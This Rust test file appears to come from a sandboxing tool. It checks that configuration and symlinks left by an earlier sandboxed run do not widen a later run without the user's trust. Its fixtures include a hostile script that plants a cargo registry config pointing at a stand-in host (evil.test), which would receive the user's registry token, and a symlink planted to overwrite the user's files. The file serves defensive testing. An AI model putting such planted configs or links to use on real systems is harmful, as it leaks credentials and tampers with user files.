//! Yesterday's workspace does not widen today's run (SPEC §3.5, issue 28
//! item 1): a writable root of an earlier run stays one for trust. Run 1
//! works in `W` and leaves `W/team.toml` and `W/.cargo/config.toml`; run 2,
//! started in the user's repository `W/sub`, does not apply them until the
//! user trusts them, and the refusal says which credential would go to
//! which host. Root and an ordinary user.

use std::path::PathBuf;

use airlock_tests::repos::{git_available, host, sandboxed, show};
use airlock_tests::who::Who;
use airlock_tests::*;

fn base() -> PathBuf {
    std::env::var_os("AIRLOCK_TEST_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from("/var/tmp/airlock-pastroots"))
}

#[test]
fn files_an_earlier_run_left_in_a_parent_need_trust() {
    if !git_available() {
        eprintln!("skipped: git is not installed");
        return;
    }
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        let outside = f.home.join("outside");
        std::fs::create_dir_all(&outside).unwrap();
        f.write(
            "~/.cargo/credentials.toml",
            "[registries.corp]\ntoken = \"SECRET-CARGO-TOKEN\"\n",
        );
        who.prepare(&f);
        // Run 1, in W: a hostile command leaves configuration behind.
        let script = format!(
            "printf '[filesystem]\\nwrite = [\"{o}\"]\\n' > team.toml; mkdir -p .cargo; \
             printf '[registries.corp]\\nindex = \"sparse+https://evil.test/index/\"\\n' > .cargo/config.toml; echo left",
            o = outside.display()
        );
        let out = sandboxed(&f, who, &["--network", "none"], &script);
        assert!(out.stdout.contains("left"), "{who:?}: {}", show(&out));
        // The user's own repository below it.
        let sub = f.ws.join("sub");
        std::fs::create_dir_all(&sub).unwrap();
        if who == Who::Nobody {
            airlock_tests::who::chown(&sub);
        }
        let g = host(&f, who, &sub, "git", &["init", "-q", "."]);
        assert_eq!(g.code, 0, "{}", show(&g));

        // Run 2, in W/sub, with the policy file run 1 wrote.
        let run2 = |args: &[&str]| {
            let mut c = f.command(
                args,
                &format!("touch {}/x && echo wrote", outside.display()),
            );
            c.current_dir(&sub);
            run(&mut who.wrap(c))
        };
        let out = run2(&["-p", "../team.toml", "--network", "none"]);
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(!outside.join("x").exists(), "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains("untrusted project configuration")
                && out.stderr.contains("team.toml")
                && out.stderr.contains("makes writable"),
            "{who:?}: {}",
            show(&out)
        );
        // Cargo's configuration is on the project surface at any depth
        // (red team round 6): what run 1 wrote there was moved aside.
        assert!(
            !f.ws.join(".cargo/config.toml").exists(),
            "{who:?}: run 1's cargo configuration was left in place"
        );
        // One that is there all the same (an older airlock's run left it,
        // or it came with a checkout) is still the project's word: the
        // index it names would receive the user's registry token, and the
        // refusal says so.
        f.write(
            ".cargo/config.toml",
            "[registries.corp]\nindex = \"sparse+https://evil.test/index/\"\n",
        );
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws.join(".cargo"));
        }
        let out = run2(&["--preset", "cargo", "--network", "none"]);
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(
            out.stderr.contains(".cargo/config.toml")
                && out.stderr.contains("allows host evil.test")
                && out
                    .stderr
                    .contains("credentials.toml (header Authorization) to evil.test"),
            "{who:?}: {}",
            show(&out)
        );
        assert!(
            !out.stderr.contains("SECRET-CARGO-TOKEN"),
            "{who:?}: {}",
            show(&out)
        );
        // Trusted by the user, the policy file applies.
        let team = f.ws.join("team.toml");
        let t = host(
            &f,
            who,
            &sub,
            &airlock_bin().display().to_string(),
            &["policy", "trust", team.to_str().unwrap()],
        );
        assert_eq!(t.code, 0, "{who:?}: {}", show(&t));
        let out = run2(&["-p", "../team.toml", "--network", "none"]);
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
    }
}

/// A file airlock writes at a path the user gives (`--report`,
/// `--audit-log`, `--learn`) is not written through a directory link an
/// earlier run left in its workspace: it would land over a file of the
/// user's elsewhere (red team round 14). The user's own path still works.
#[test]
fn outputs_are_not_written_through_a_link_an_earlier_run_left() {
    for who in Who::all() {
        let f = Fixture::new_in(&base());
        let victim = f.home.join("victim");
        std::fs::create_dir_all(&victim).unwrap();
        std::fs::write(victim.join("report.json"), "mine\n").unwrap();
        std::fs::write(victim.join("audit.jsonl"), "mine\n").unwrap();
        who.prepare(&f);
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.home);
        }
        let out = sandboxed(
            &f,
            who,
            &["--network", "none"],
            &format!("ln -s {} out; echo left", victim.display()),
        );
        assert!(out.stdout.contains("left"), "{who:?}: {}", show(&out));
        for args in [
            &["--network", "none", "--report", "out/report.json"][..],
            &["--network", "none", "--audit-log", "out/audit.jsonl"][..],
            &["--learn", "out/learned.toml"][..],
            // Through the link and back up (red team round 15).
            &["--network", "none", "--report", "out/../../report.json"][..],
        ] {
            let out = sandboxed(&f, who, args, "echo ran");
            assert_eq!(out.code, 125, "{who:?} {args:?}: {}", show(&out));
            assert!(
                out.stderr
                    .contains("is a link inside a directory a sandboxed run could write"),
                "{who:?}: {}",
                show(&out)
            );
        }
        assert_eq!(
            std::fs::read_to_string(victim.join("report.json")).unwrap(),
            "mine\n"
        );
        assert_eq!(
            std::fs::read_to_string(victim.join("audit.jsonl")).unwrap(),
            "mine\n"
        );
        assert!(!victim.join("learned.toml").exists(), "{who:?}");
        // Nor into a start-up file host tools run (red team round 15).
        let bashrc = f.home.join(".bashrc");
        let out = sandboxed(
            &f,
            who,
            &["--network", "none", "--audit-log", bashrc.to_str().unwrap()],
            "echo ran",
        );
        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
        assert!(!bashrc.exists(), "{who:?}");
        // A path of the user's own is written.
        let mine = f.ws.join("reports");
        std::fs::create_dir_all(&mine).unwrap();
        if who == Who::Nobody {
            airlock_tests::who::chown(&f.ws);
        }
        let out = sandboxed(
            &f,
            who,
            &["--network", "none", "--report", "reports/r.json"],
            "echo ran",
        );
        assert_eq!(out.code, 0, "{who:?}: {}", show(&out));
        assert!(mine.join("r.json").exists(), "{who:?}");
    }
}
